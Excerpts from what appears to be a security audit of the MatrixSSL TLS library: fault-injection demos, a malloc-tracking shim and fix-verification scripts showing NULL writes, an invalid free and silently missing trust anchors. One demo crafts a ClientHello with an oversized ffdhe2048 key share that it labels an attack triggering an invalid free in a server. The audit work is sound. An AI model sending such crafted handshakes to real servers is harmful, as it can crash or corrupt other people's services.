            else if (WEXITSTATUS(st) != 0) { printf("  (k=%ld exit status %d)\n", k, WEXITSTATUS(st)); bad++; }
        }
        printf("scenario %s done: %d bad k\n", S->name, bad);
        return bad ? 1 : 0;
    }
}
