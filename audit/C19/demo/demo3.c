/* C19 demo 3: loading trust anchors. psX509ParseCertData()
   (crypto/keyformat/x509.c) counts a PEM entry as "parsed" even when
   psX509ParseCert() failed with PS_MEM_FAIL before it could allocate the
   psX509Cert_t (numParsed++ runs for every entry when
   CERT_ALLOW_BUNDLE_PARTIAL_PARSE is set, and *tailp is set to the NULL
   'current'). matrixSslAddTrustAnchors() (matrixssl/matrixsslKeys.c) always
   sets that flag, sees a positive count, and calls
   checkAuthFailFlags(keys->CAcerts, ...) with keys->CAcerts == NULL:
   NULL read, the process dies inside matrixSslLoadRsaKeys / matrixSslLoadKeys /
   matrixSslLoadKeysMem instead of getting PS_MEM_FAIL.
   With a bundle of several CAs the same miscount makes the call return
   success although an allocation failed and a trust anchor is missing.

   Case A: matrixSslLoadRsaKeys(cert file, key file, CA file) with the
           single-CA file testkeys/RSA/2048_RSA_CA.pem.
   Case B: matrixSslLoadKeysMem(CA only, PEM buffer) - a client that only
           loads its trust anchor.
   Case C: matrixSslLoadRsaKeys with the bundle ALL_RSA_CAS.pem: count the
           anchors that are really in keys->CAcerts after a "successful" load.
   Every allocation made by the call is failed once. */
#include "demo_common.h"

#define TK "/tmp/seed-C19/testkeys/"
static int which;
static unsigned char pem[8192];
static int pemLen;

static int countCAs(sslKeys_t *k)
{
    psX509Cert_t *c;
    int n = 0;
    for (c = k->CAcerts; c; c = c->next)
    {
        if (c->parseStatus == PS_X509_PARSE_SUCCESS) n++;
    }
    return n;
}

static int scenario(long k)
{
    sslKeys_t *keys = NULL;
    int32 rc;
    int bad = 0;

    fi_track = 1;
    if (matrixSslOpen() < 0) return 0;
    if (matrixSslNewKeys(&keys, NULL) < 0) return 0;
    fi_fail_at = k; fi_count = 0; fi_fired = 0; fi_armed = 1;
    if (which == 0)
    {
        rc = matrixSslLoadRsaKeys(keys, TK "RSA/2048_RSA.pem", TK "RSA/2048_RSA_KEY.pem", NULL,
            TK "RSA/2048_RSA_CA.pem");
    }
    else if (which == 1)
    {
        rc = matrixSslLoadKeysMem(keys, NULL, 0, NULL, 0, pem, pemLen, NULL);
    }
    else
    {
        rc = matrixSslLoadRsaKeys(keys, TK "RSA/2048_RSA.pem", TK "RSA/2048_RSA_KEY.pem", NULL,
            TK "RSA/ALL_RSA_CAS.pem");
    }
    fi_armed = 0;
    if (k < 0 && (rc < 0 || countCAs(keys) < 1)) printf("demo3: baseline load failed?! rc=%d\n", rc);
    if (which == 2)
    {
        static int expect = 4;
        int n = countCAs(keys);
        if (k < 0) printf("  case C baseline: rc=%d, %d usable trust anchors loaded\n", rc, n);
        else if (rc >= 0 && fi_fired && n != expect)
        {
            printf("  case C: allocation #%ld failed, matrixSslLoadRsaKeys still returned %d (success) "
                "with only %d of %d trust anchors usable\n", k, rc, n, expect);
            bad = 1;
        }
    }
    matrixSslDeleteKeys(keys);
    matrixSslClose();
    if (fi_badfree || fi_live)
    {
        printf("VIOLATION: demo3 k=%ld: %d bad free, %u blocks leaked\n", k, fi_badfree, fi_live);
        bad = 1;
    }
    return bad;
}

#define WANT(c) (argc < 2 || strchr(argv[1], (c)))
int main(int argc, char **argv)
{
    long n;
    int bad = 0;
    FILE *f;
    setvbuf(stdout, NULL, _IOLBF, 0);
    f = fopen(TK "RSA/2048_RSA_CA.pem", "rb");
    if (!f) { printf("cannot read CA file\n"); return 2; }
    pemLen = fread(pem, 1, sizeof(pem), f);
    fclose(f);

    which = 0;
    n = dc_count(scenario);
    printf("demo3 case A: matrixSslLoadRsaKeys(cert, key, CA file) makes %ld allocations\n", n);
    bad += dc_run_forked("matrixSslLoadRsaKeys with a CA file", scenario, 1, n);

    which = 1;
    n = dc_count(scenario);
    printf("demo3 case B: matrixSslLoadKeysMem(CA PEM buffer only) makes %ld allocations\n", n);
    bad += dc_run_forked("matrixSslLoadKeysMem with a PEM CA buffer", scenario, 1, n);

    which = 2;
    n = dc_count(scenario);
    printf("demo3 case C: matrixSslLoadRsaKeys(cert, key, CA bundle) makes %ld allocations\n", n);
    {
        int b = dc_run_forked("matrixSslLoadRsaKeys with a CA bundle", scenario, 1, n);
        if (b)
        {
            printf("VIOLATION: case C: for %d of %ld single allocation failures matrixSslLoadRsaKeys returned success "
                "although an allocation failed, with a trust anchor silently missing\n", b, n);
        }
        bad += b;
    }

    printf("demo3: %d single faults ended in a crash or a false success\n", bad);
    if (!bad) printf("OK: demo3: every single fault made the load return an error, and the fault-free loads work\n");
    return bad ? 1 : 0;
}
