/* C19 demo 1: tls13ImportPublicValue() (matrixssl/tls13KeyAgree.c) - the function
   that stores the peer's TLS 1.3 key_share value - mishandles a failed
   allocation in two of its three branches.

   Case A (finite-field DH branch):
       ssl->sec.dhKeyPub = psMalloc(ssl->hsPool, sizeof(psDhKey_t));   (not cleared)
       rc = psDhImportPubKey(ssl->hsPool, data, len, ssl->sec.dhKeyPub);
       if (rc < 0) goto out_handshake_failure;                          (pointer kept)
   psDhImportPubKey() -> pstm_init_for_read_unsigned_bin() -> pstm_init_size()
   returns PSTM_MEM (== PS_MEM_FAIL, the allocation is refused) WITHOUT writing
   a->dp when the size is over PSTM_MAX_SIZE, i.e. when the peer's key_exchange
   is longer than 3056 bytes. The TLS 1.2 siblings (hsDecode.c:974 and :2196)
   free dhKeyPub and NULL it on this error; the TLS 1.3 path keeps a psDhKey_t
   whose 'pub' number was never initialised, and matrixSslDeleteSession() ->
   psDhClearKey() -> pstm_clear(&key->pub) then writes through / frees whatever
   was in the fresh malloc block. Trigger: ONE unauthenticated ClientHello sent
   to a TLS 1.3 server that enabled an ffdhe group with
   matrixSslSessOptsSetKeyExGroups (same code runs in a client that offered
   ffdhe and gets a ServerHello). Fresh malloc blocks are filled with 0xA5 by
   the allocator shim (their content is indeterminate by definition; in a
   long-running server it is stale heap data), so the stray pointer is visible.

   Case B (X25519 branch):
       ssl->sec.x25519KeyPub = psMalloc(ssl->sec.eccDhKeyPool, 32);
       Memcpy(ssl->sec.x25519KeyPub, keyExchangeData, 32);              (no NULL check)
   In-memory TLS 1.3 client and server (external PSK, psk_dhe_ke, group
   x25519); every allocation made during the handshake is failed once
   (exhaustive single fault, one forked child per fault): the server parsing
   the ClientHello and the client parsing the ServerHello die with SIGSEGV
   instead of failing the handshake with internal_error. */
#include "demo_common.h"
#include "testkeys/PSK/tls13_psk.h"
#include "testkeys/RSA/2048_RSA.h"
#include "testkeys/RSA/2048_RSA_KEY.h"
#include "testkeys/RSA/2048_RSA_CA.h"
static unsigned char ch[8192];
static int chLen;

static void put16(unsigned char **p, int v) { *(*p)++ = v >> 8; *(*p)++ = v & 0xff; }

static void buildClientHello(int kxLen)
{
    static unsigned char body[8000];
    unsigned char *p = body, *ext, *extStart;
    unsigned char *q = ch;
    int bodyLen, i;
    put16(&p, 0x0303);
    for (i = 0; i < 32; i++) *p++ = 0x11 + i;        /* random */
    *p++ = 32; for (i = 0; i < 32; i++) *p++ = 0x55; /* legacy_session_id */
    put16(&p, 2); put16(&p, 0x1301);                 /* TLS_AES_128_GCM_SHA256 */
    *p++ = 1; *p++ = 0;                              /* compression */
    extStart = p; p += 2;
    put16(&p, 43); put16(&p, 3); *p++ = 2; put16(&p, 0x0304);          /* supported_versions: TLS 1.3 */
    put16(&p, 10); put16(&p, 4); put16(&p, 2); put16(&p, 0x0100);      /* supported_groups: ffdhe2048 */
    put16(&p, 13); put16(&p, 8); put16(&p, 6); put16(&p, 0x0804); put16(&p, 0x0403); put16(&p, 0x0401);
    put16(&p, 51); put16(&p, kxLen + 6); put16(&p, kxLen + 4);         /* key_share */
    put16(&p, 0x0100); put16(&p, kxLen);
    for (i = 0; i < kxLen; i++) *p++ = 0x7f;
    ext = extStart; put16(&ext, (int) (p - extStart - 2));
    bodyLen = (int) (p - body);
    *q++ = 22; put16(&q, 0x0301); put16(&q, bodyLen + 4);
    *q++ = 1; *q++ = 0; put16(&q, bodyLen);
    memcpy(q, body, bodyLen); q += bodyLen;
    chLen = (int) (q - ch);
}

static int scenarioDh(long kx)
{
    sslKeys_t *sk = NULL;
    sslSessOpts_t so;
    side_t s;
    uint16_t groups[2] = { namedgroup_ffdhe2048, namedgroup_secp256r1 };
    int32 rc;
    unsigned char *out;

    memset(&s, 0, sizeof(s)); memset(&so, 0, sizeof(so));
    fi_track = 1;
    fi_poison = 1;
    if (matrixSslOpen() < 0) return 0;
    if (matrixSslNewKeys(&sk, NULL) < 0) return 0;
    if (matrixSslLoadRsaKeysMem(sk, RSA2048, sizeof(RSA2048), RSA2048KEY, sizeof(RSA2048KEY),
            RSA2048CA, sizeof(RSA2048CA)) < 0) return 0;
    so.versionFlag = SSL_FLAGS_TLS_1_3;
    if (matrixSslSessOptsSetKeyExGroups(&so, groups, 2, 1) < 0) { printf("groups rejected\n"); return 0; }
    if (matrixSslNewServerSession(&s.ssl, sk, NULL, &so) < 0) return 0;
    buildClientHello((int) kx);
    dc_feed(&s, ch, chLen);
    printf("  server fed a ClientHello with a %ld-byte ffdhe2048 key_exchange: matrixSslReceivedData = %d, "
        "ssl->sec.dhKeyPub = %p\n", kx, s.err, (void *) s.ssl->sec.dhKeyPub);
    if (s.ssl->sec.dhKeyPub)
    {
        printf("  dhKeyPub->pub: dp = %p, used = %d, alloc = %d%s\n",
            (void *) s.ssl->sec.dhKeyPub->pub.dp, (int) s.ssl->sec.dhKeyPub->pub.used,
            (int) s.ssl->sec.dhKeyPub->pub.alloc,
            kx > 3056 ? "  <- never initialised: the 0xA5 fill of the fresh block" : "");
    }
    rc = matrixSslGetOutdata(s.ssl, &out);
    if (rc > 6 && out[0] == 21) printf("  server's answer: alert record, level %d description %d\n", out[5], out[6]);
    else if (rc > 6) printf("  server's answer: handshake record (%d bytes, ServerHello flight)\n", rc);
    fflush(stdout);
    printf("  application deletes the failed session ...\n");
    fflush(stdout);
    matrixSslDeleteSession(s.ssl);
    matrixSslDeleteKeys(sk);
    matrixSslClose();
    printf("  deleted; invalid frees seen by the shim: %d, blocks still allocated: %u\n", fi_badfree, fi_live);
    if (fi_badfree || fi_live)
    {
        printf("VIOLATION: demo1 case A: %d invalid free(s), %u leaked block(s) after the failed handshake was torn down\n",
            fi_badfree, fi_live);
        return 1;
    }
    return 0;
}

static int scenarioX25519(long k)
{
    sslKeys_t *ck = NULL, *sk = NULL;
    sslSessOpts_t co, so;
    side_t c, s;
    psTls13SessionParams_t sp;
    psCipher16_t cipher = TLS_AES_128_GCM_SHA256;
    int bad = 0;

    memset(&c, 0, sizeof(c)); memset(&s, 0, sizeof(s));
    memset(&co, 0, sizeof(co)); memset(&so, 0, sizeof(so));
    fi_track = 1;
    if (matrixSslOpen() < 0) return 0;
    if (matrixSslNewKeys(&ck, NULL) < 0 || matrixSslNewKeys(&sk, NULL) < 0) return 0;
    memset(&sp, 0, sizeof(sp));
    sp.cipherId = TLS_AES_128_GCM_SHA256;
    if (matrixSslLoadTls13Psk(ck, g_tls13_test_psk_256, 32, g_tls13_test_psk_id_sha256,
            sizeof(g_tls13_test_psk_id_sha256), &sp) < 0) return 0;
    if (matrixSslLoadTls13Psk(sk, g_tls13_test_psk_256, 32, g_tls13_test_psk_id_sha256,
            sizeof(g_tls13_test_psk_id_sha256), &sp) < 0) return 0;
    co.versionFlag = so.versionFlag = SSL_FLAGS_TLS_1_3;
    co.tls13SupportedGroups[0] = so.tls13SupportedGroups[0] = namedgroup_x25519;
    co.tls13SupportedGroupsLen = so.tls13SupportedGroupsLen = 1;
    co.tls13NumClientHelloKeyShares = 1;
    if (matrixSslNewServerSession(&s.ssl, sk, NULL, &so) < 0) return 0;
    if (matrixSslNewClientSession(&c.ssl, ck, NULL, &cipher, 1, NULL, NULL, NULL, NULL, &co) < 0) return 0;

    /* the handshake runs with the k-th allocation failing */
    fi_fail_at = k; fi_count = 0; fi_fired = 0; fi_armed = 1;
    dc_pump(&c, &s);
    fi_armed = 0;

    if (k < 0 && !(c.done && s.done))
    {
        printf("demo1 case B: baseline handshake did not complete?!\n");
    }
    matrixSslDeleteSession(c.ssl);
    matrixSslDeleteSession(s.ssl);
    matrixSslDeleteKeys(ck);
    matrixSslDeleteKeys(sk);
    matrixSslClose();
    if (fi_badfree || fi_live)
    {
        printf("VIOLATION: demo1 case B k=%ld: %d bad free, %u blocks leaked\n", k, fi_badfree, fi_live);
        bad = 1;
    }
    return bad;
}

#define WANT(c) (argc < 2 || strchr(argv[1], (c)))
int main(int argc, char **argv)
{
    long n;
    int bad = 0, b;
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (WANT('A')) {
    b = 0;
    printf("demo1 case A, control: a 256-byte ffdhe2048 share of 0x7f bytes (import succeeds)\n");
    b += dc_run_forked("TLS 1.3 server, well-sized ffdhe2048 key share", scenarioDh, 256, 256);
    printf("demo1 case A, attack: a 4000-byte ffdhe2048 share (pstm refuses the allocation: PS_MEM_FAIL)\n");
    b += dc_run_forked("TLS 1.3 server torn down after an oversized ffdhe2048 key share", scenarioDh, 4000, 4000);
    if (!b) printf("OK: demo1 case A: the failed key share import left nothing behind that teardown trips over\n");
    bad += b;
    }
    if (WANT('B')) {
    n = dc_count(scenarioX25519);
    printf("demo1 case B: TLS 1.3 / x25519 handshake makes %ld allocations; failing each one in turn\n", n);
    b = dc_run_forked("TLS 1.3 handshake with an x25519 key share", scenarioX25519, 1, n);
    printf("demo1 case B: %d of %ld single faults ended in a crash instead of an error return / alert\n", b, n);
    if (!b) printf("OK: demo1 case B: every single fault ended in an error return / alert\n");
    bad += b;
    }
    return bad ? 1 : 0;
}
