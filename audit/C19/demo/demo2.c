/* C19 demo 2: psMalloc results used without a NULL check (NULL write, SIGSEGV)
   in four places that the earlier hardening missed.

   Case A - peer driven: a peer certificate whose name contains a
   domainComponent (DC=) attribute. crypto/keyformat/x509.c, psX509GetDNAttributes(), case
   ATTRIB_DOMAIN_COMPONENT: the x509DomainComponent_t list node is psMalloc'ed
   and written to without a NULL check. A client (or a server doing client
   authentication) that parses such a Certificate message while that one
   allocation fails is killed by a NULL write instead of failing the handshake
   with internal_error.

   TLS 1.2, TLS_RSA_WITH_AES_128_CBC_SHA, client authentication on; both ends
   present keys/dc_cert.der (subject "DC=com, DC=example, O=Demo, CN=localhost",
   issued by the 2048-bit RSA test CA, made with openssl from the test key).
   Every allocation made during the handshake is failed once.

   Case B - matrixSslNewClientSession() (matrixssl/matrixsslApi.c:241):
       lssl->expectedName = psMalloc(lssl->sPool, rc + 1);
       Strcpy(lssl->expectedName, expectedName);
   and, for user supplied hello extensions, psCopyHelloExtension()
   (matrixssl/tls.c:1035/1039, reached from matrixSslEncodeClientHello and
   tls13WriteClientHello via ssl->userExt = psMalloc(...) at tls.c:1067):
   extData / next are written without a check. The call is made once with an
   expected name only (case B) and once with an SNI extension only (case D),
   failing each of its allocations once.

   Case C - tls13NewPsk() (matrixssl/tls13Psk.c:93/99), reached from
   matrixSslLoadTls13Psk() and, when a session is created, from
   tls13LoadSessionPsks(): the copies of params->sni and params->alpn are
   written without a check. */
#include "demo_common.h"
#include "testkeys/RSA/2048_RSA_KEY.h"
#include "testkeys/RSA/2048_RSA_CA.h"
#include "keys/dc_cert_der.h"

static int32 certCb(ssl_t *ssl, psX509Cert_t *cert, int32 alert)
{
    return alert;
}

static int scenario(long k)
{
    sslKeys_t *ck = NULL, *sk = NULL;
    sslSessOpts_t co, so;
    side_t c, s;
    psCipher16_t cipher = TLS_RSA_WITH_AES_128_CBC_SHA;
    int bad = 0;

    memset(&c, 0, sizeof(c)); memset(&s, 0, sizeof(s));
    memset(&co, 0, sizeof(co)); memset(&so, 0, sizeof(so));
    fi_track = 1;
    if (matrixSslOpen() < 0) return 0;
    if (matrixSslNewKeys(&ck, NULL) < 0 || matrixSslNewKeys(&sk, NULL) < 0) return 0;
    if (matrixSslLoadRsaKeysMem(ck, dc_cert_der, dc_cert_der_len, RSA2048KEY, sizeof(RSA2048KEY),
            RSA2048CA, sizeof(RSA2048CA)) < 0) { printf("client key load failed\n"); return 0; }
    if (matrixSslLoadRsaKeysMem(sk, dc_cert_der, dc_cert_der_len, RSA2048KEY, sizeof(RSA2048KEY),
            RSA2048CA, sizeof(RSA2048CA)) < 0) { printf("server key load failed\n"); return 0; }
    co.versionFlag = so.versionFlag = SSL_FLAGS_TLS_1_2;
    if (matrixSslNewServerSession(&s.ssl, sk, certCb, &so) < 0) return 0;
    if (matrixSslNewClientSession(&c.ssl, ck, NULL, &cipher, 1, certCb, NULL, NULL, NULL, &co) < 0) return 0;

    fi_fail_at = k; fi_count = 0; fi_fired = 0; fi_armed = 1;
    dc_pump(&c, &s);
    fi_armed = 0;

    if (k < 0 && !(c.done && s.done))
    {
        printf("demo2: baseline handshake did not complete?! c.err=%d s.err=%d c.alert=%d s.alert=%d\n",
            c.err, s.err, c.alertIn, s.alertIn);
    }
    matrixSslDeleteSession(c.ssl);
    matrixSslDeleteSession(s.ssl);
    matrixSslDeleteKeys(ck);
    matrixSslDeleteKeys(sk);
    matrixSslClose();
    if (fi_badfree || fi_live)
    {
        printf("VIOLATION: demo2 k=%ld: %d bad free, %u blocks leaked\n", k, fi_badfree, fi_live);
        bad = 1;
    }
    return bad;
}

static int useName = 1, useExt = 1, useTls13 = 0;
static int scenarioNewClient(long k)
{
    sslKeys_t *ck = NULL;
    sslSessOpts_t co;
    ssl_t *ssl = NULL;
    tlsExtension_t *ext = NULL;
    unsigned char *e = NULL;
    int32 el = 0, rc;
    psCipher16_t cipher = TLS_RSA_WITH_AES_128_CBC_SHA;

    memset(&co, 0, sizeof(co));
    fi_track = 1;
    if (matrixSslOpen() < 0) return 0;
    if (matrixSslNewKeys(&ck, NULL) < 0) return 0;
    if (matrixSslLoadRsaKeysMem(ck, NULL, 0, NULL, 0, RSA2048CA, sizeof(RSA2048CA)) < 0) return 0;
    if (matrixSslNewHelloExtension(&ext, NULL) < 0) return 0;
    if (matrixSslCreateSNIext(NULL, (unsigned char *) "localhost", 9, &e, &el) < 0) return 0;
    if (matrixSslLoadHelloExtension(ext, e, el, EXT_SNI) < 0) return 0;
    psFree(e, NULL);
    co.versionFlag = useTls13 ? SSL_FLAGS_TLS_1_3 : SSL_FLAGS_TLS_1_2;
    if (useTls13) cipher = TLS_AES_128_GCM_SHA256;

    fi_fail_at = k; fi_count = 0; fi_fired = 0; fi_armed = 1;
    rc = matrixSslNewClientSession(&ssl, ck, NULL, &cipher, 1, certCb, useName ? "localhost" : NULL, useExt ? ext : NULL, NULL, &co);
    if (k < 0 && rc < 0) printf("demo2: baseline matrixSslNewClientSession failed?! %d\n", rc);
    fi_armed = 0;
    if (rc >= 0) matrixSslDeleteSession(ssl);
    matrixSslDeleteHelloExtension(ext);
    matrixSslDeleteKeys(ck);
    matrixSslClose();
    if (fi_badfree || fi_live)
    {
        printf("VIOLATION: demo2 case B k=%ld: %d bad free, %u blocks leaked\n", k, fi_badfree, fi_live);
        return 1;
    }
    return 0;
}

static int scenarioLoadPsk(long k)
{
    sslKeys_t *keys = NULL;
    psTls13SessionParams_t sp;
    static const unsigned char key[32] = "0123456789abcdef0123456789abcdef";
    static const unsigned char id[8] = "demo-psk";

    fi_track = 1;
    if (matrixSslOpen() < 0) return 0;
    if (matrixSslNewKeys(&keys, NULL) < 0) return 0;
    memset(&sp, 0, sizeof(sp));
    sp.cipherId = TLS_AES_128_GCM_SHA256;
    sp.sni = (unsigned char *) "localhost"; sp.sniLen = 9;
    sp.alpn = (unsigned char *) "h2"; sp.alpnLen = 2;
    fi_fail_at = k; fi_count = 0; fi_fired = 0; fi_armed = 1;
    (void) matrixSslLoadTls13Psk(keys, key, 32, id, 8, &sp);
    fi_armed = 0;
    matrixSslDeleteKeys(keys);
    matrixSslClose();
    if (fi_badfree || fi_live)
    {
        printf("VIOLATION: demo2 case C k=%ld: %d bad free, %u blocks leaked\n", k, fi_badfree, fi_live);
        return 1;
    }
    return 0;
}

#define WANT(c) (argc < 2 || strchr(argv[1], (c)))
int main(int argc, char **argv)
{
    long n;
    int bad = 0, b;
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (WANT('A')) {
    n = dc_count(scenario);
    printf("demo2 case A: TLS 1.2 handshake with DC= certificates makes %ld allocations; failing each one in turn\n", n);
    b = dc_run_forked("handshake with a peer certificate carrying domainComponent attributes", scenario, 1, n);
    printf("demo2 case A: %d of %ld single faults ended in a crash instead of an error return / alert\n", b, n);
    if (!b) printf("OK: demo2 case A\n");
    bad += b;
    }
    if (WANT('B')) {
    useName = 1; useExt = 0;
    n = dc_count(scenarioNewClient);
    printf("demo2 case B: matrixSslNewClientSession(expectedName, no extensions) makes %ld allocations\n", n);
    b = dc_run_forked("matrixSslNewClientSession with an expected name", scenarioNewClient, 1, n);
    printf("demo2 case B: %d of %ld single faults ended in a crash instead of PS_MEM_FAIL\n", b, n);
    if (!b) printf("OK: demo2 case B\n");
    bad += b;
    }
    if (WANT('D')) {
    useName = 0; useExt = 1;
    n = dc_count(scenarioNewClient);
    printf("demo2 case D: matrixSslNewClientSession(no name, SNI hello extension) makes %ld allocations\n", n);
    b = dc_run_forked("matrixSslNewClientSession with a user hello extension", scenarioNewClient, 1, n);
    printf("demo2 case D: %d of %ld single faults ended in a crash instead of PS_MEM_FAIL\n", b, n);
    if (!b) printf("OK: demo2 case D\n");
    bad += b;
    }
    if (WANT('E')) {
    useName = 0; useExt = 1; useTls13 = 1;
    n = dc_count(scenarioNewClient);
    printf("demo2 case E: TLS 1.3 matrixSslNewClientSession(no name, SNI hello extension) makes %ld allocations\n", n);
    b = dc_run_forked("TLS 1.3 matrixSslNewClientSession with a user hello extension", scenarioNewClient, 1, n > 40 ? 40 : n);
    printf("demo2 case E: %d of the first %ld single faults ended in a crash instead of PS_MEM_FAIL\n", b, n > 40 ? 40 : n);
    if (!b) printf("OK: demo2 case E\n");
    bad += b;
    useTls13 = 0;
    }
    if (WANT('C')) {
    n = dc_count(scenarioLoadPsk);
    printf("demo2 case C: matrixSslLoadTls13Psk(params with sni and alpn) makes %ld allocations\n", n);
    b = dc_run_forked("matrixSslLoadTls13Psk with session parameters carrying sni/alpn", scenarioLoadPsk, 1, n);
    printf("demo2 case C: %d of %ld single faults ended in a crash instead of PS_MEM_FAIL\n", b, n);
    if (!b) printf("OK: demo2 case C\n");
    bad += b;
    }
    return bad ? 1 : 0;
}
