/* Fault-injection + allocation tracking shim shared by the demos.
   Link with -Wl,--wrap=malloc -Wl,--wrap=calloc -Wl,--wrap=realloc -Wl,--wrap=free
   All library allocations (psMalloc & co. are plain malloc in this config)
   come through here. */
#ifndef FI_H
#define FI_H
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <stdint.h>
#include <unistd.h>

void *__real_malloc(size_t);
void *__real_calloc(size_t, size_t);
void *__real_realloc(void *, size_t);
void __real_free(void *);

#define FI_TAB (1u << 18)
static struct { void *p; unsigned seq; size_t n; } fi_tab[FI_TAB];
static unsigned fi_live;
static int fi_track;            /* tracking on */
static int fi_armed;            /* injection on */
static long fi_count;           /* allocations seen while armed */
static long fi_fail_at = -1;    /* fail this allocation (1-based), single fault */
static long fi_fail_from = -1;  /* fail every allocation >= this one */
static int fi_fired;
static int fi_badfree;
static unsigned fi_seq;
static unsigned fi_base_seq;      /* demos: fi_seq when the injector was armed */
static unsigned fi_trace_seq;
static int fi_poison;           /* fill fresh malloc blocks with 0xA5 (contents are indeterminate anyway) */
#ifdef __SANITIZE_ADDRESS__
void __sanitizer_print_stack_trace(void);
#endif

static unsigned fi_h(void *p) { uintptr_t x = (uintptr_t) p; x ^= x >> 17; x *= 0x9E3779B97F4A7C15ull; return (unsigned) (x >> 40) & (FI_TAB - 1); }
static void fi_add(void *p, size_t n)
{
    unsigned i;
    if (!fi_track || !p) return;
    for (i = fi_h(p);; i = (i + 1) & (FI_TAB - 1))
    {
        if (fi_tab[i].p == NULL || fi_tab[i].p == (void *) 1)
        {
            fi_tab[i].p = p; fi_tab[i].seq = ++fi_seq; fi_tab[i].n = n; fi_live++;
#ifdef __SANITIZE_ADDRESS__
            if (fi_trace_seq && fi_seq == fi_trace_seq) { fprintf(stderr, "FI: allocation seq %u size %zu made here:\n", fi_seq, n); __sanitizer_print_stack_trace(); }
#endif
            return;
        }
    }
}
static int fi_del(void *p)
{
    unsigned i;
    for (i = fi_h(p); fi_tab[i].p != NULL; i = (i + 1) & (FI_TAB - 1))
    {
        if (fi_tab[i].p == p) { fi_tab[i].p = (void *) 1; fi_live--; return 1; }
    }
    return 0;
}
static size_t fi_skip_size; /* known defect: do not fail allocations of this size while set */
static int fi_should_fail_n(size_t n)
{
    if (!fi_armed) return 0;
    fi_count++;
    if (fi_skip_size && n == fi_skip_size) return 0;
    if (fi_count == fi_fail_at || (fi_fail_from > 0 && fi_count >= fi_fail_from))
    {
        fi_fired++;
        return 1;
    }
    return 0;
}
void *__wrap_malloc(size_t n)
{
    void *p;
    if (fi_should_fail_n(n)) return NULL;
    p = __real_malloc(n); if (p && fi_poison) memset(p, 0xA5, n); fi_add(p, n); return p;
}
void *__wrap_calloc(size_t a, size_t b)
{
    void *p;
    if (fi_should_fail_n(a * b)) return NULL;
    p = __real_calloc(a, b); fi_add(p, a * b); return p;
}
void *__wrap_realloc(void *o, size_t n)
{
    void *p;
    if (fi_should_fail_n(n)) return NULL;
    if (o && fi_track && !fi_del(o))
    {
        fprintf(stderr, "FI: realloc of untracked pointer %p\n", o);
        fi_badfree++;
    }
    p = __real_realloc(o, n);
    if (p == NULL && o != NULL && n != 0) fi_add(o, 0); else fi_add(p, n);
    return p;
}
void __wrap_free(void *p)
{
    if (!p) return;
    if (fi_track && !fi_del(p))
    {
        fi_badfree++;
        fprintf(stderr, "FI: free of pointer %p that is not a live allocation (double/invalid free)\n", p);
#ifndef FI_PASS_BADFREE
        return;
#endif
    }
    __real_free(p);
}
static void fi_dump_live(void)
{
    unsigned i, shown = 0;
    for (i = 0; i < FI_TAB && shown < 8; i++)
    {
        if (fi_tab[i].p && fi_tab[i].p != (void *) 1)
        {
            fprintf(stderr, "FI: live block %p size %zu alloc-seq %u\n", fi_tab[i].p, fi_tab[i].n, fi_tab[i].seq);
            shown++;
        }
    }
}
#endif
