#!/bin/sh
# verify.sh NAME DEMO CASES  - run with exactly one repair applied in the worktree
T=/tmp/seed-C19
N=$1; D=$2; C=$3
cd $T
git diff > audit-out/fix/$N.diff
echo "== $N: $(git diff --stat | tail -1)"
make -j4 > audit-out/fix/$N.make.log 2>&1; echo "make rc=$?"
audit-out/demo/build.sh > /dev/null 2>&1 || echo "demo build failed"
audit-out/demo/$D $C > audit-out/fix/$N.demo.log 2>&1; echo "demo $D $C rc=$? VIOLATION lines: $(grep -c '^VIOLATION' audit-out/fix/$N.demo.log)"; grep '^OK\|baseline' audit-out/fix/$N.demo.log
for t in algorithmTest eccTest rsaTest hmacTest; do (cd crypto/test; ./$t > /dev/null 2>&1; echo "$t rc=$?"); done | tr '\n' ' '; echo
(cd matrixssl/test; /usr/bin/time -f "%es" ./sslTest > $T/audit-out/fix/$N.sslTest.log 2>&1; echo "sslTest rc=$?"; tail -1 $T/audit-out/fix/$N.sslTest.log)
