#!/bin/sh
# verify.sh <label> <demo> [<demo>...]
# With a repair applied to the worktree: rebuild the library (make -j4), rebuild
# the demos and the control program against it, run the named demos, the control
# cases, the crypto unit tests and sslTest.  Writes audit-out/fix/verify-<label>.log
cd "$(dirname "$0")"
TOP=$(cd ../.. && pwd)
label=$1; shift
log=$PWD/verify-$label.log
: > "$log"
say() { echo "$@" | tee -a "$log"; }

( cd "$TOP" && make -j4 > "$PWD/audit-out/fix/make-$label.log" 2>&1 ); rc=$?
say "(a) make -j4: exit $rc"
[ $rc -eq 0 ] || exit 1
sh ../demo/build.sh >> "$log" 2>&1 || { say "demo build failed"; exit 1; }
sh ./build_control.sh >> "$log" 2>&1 || { say "control build failed"; exit 1; }
for d in "$@"; do
    out=$(../demo/$d 2>&1); rc=$?
    echo "$out" >> "$log"
    say "(b) $d: exit $rc; VIOLATION lines: $(echo "$out" | grep -c VIOLATION); last: $(echo "$out" | tail -1)"
done
out=$(./control data "$SKIP" 2>&1); rc=$?
echo "$out" >> "$log"
say "(d) control: exit $rc; $(echo "$out" | tail -1)"
for t in algorithmTest eccTest rsaTest hmacTest; do
    ( cd "$TOP/crypto/test" && ./$t > /dev/null 2>&1 ); say "(c) $t: exit $?"
done
( cd "$TOP/matrixssl/test" && ./sslTest > "$TOP/audit-out/fix/sslTest-$label.log" 2>&1 ); say "(c) sslTest: exit $?"
