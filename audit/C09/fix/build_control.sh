#!/bin/sh
set -e
cd "$(dirname "$0")"
TOP=$(cd ../.. && pwd)
cc -O1 -g -Wall -I$TOP -I$TOP/core/config -I$TOP/core/include -I$TOP/core/osdep/include -I$TOP/core/include/sfzcl \
  -DUSE_CL_PKCS -DUSE_CL_CERTLIB control.c $TOP/matrixssl/libssl_s.a $TOP/crypto/libcrypt_s.a $TOP/core/libcore_s.a -lpthread -o control
