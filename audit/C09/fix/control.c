/* Control cases for the C09 repairs: honest credentials of every kind the
 * patched code handles must still parse, with the same results.  Every case
 * runs in a child process, so a crash in one does not hide the others.
 * Prints one line per case and "CONTROL: n/m ok"; exit 0 iff all ok.
 * Usage: control <datadir> [skip-list]   (e.g. skip "pubpem_bitstring" on the unpatched tree) */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/wait.h>
#include "matrixssl/matrixsslApi.h"

static const char *dir;

static unsigned char *slurp(const char *name, size_t *n)
{
    char path[1024];
    FILE *f;
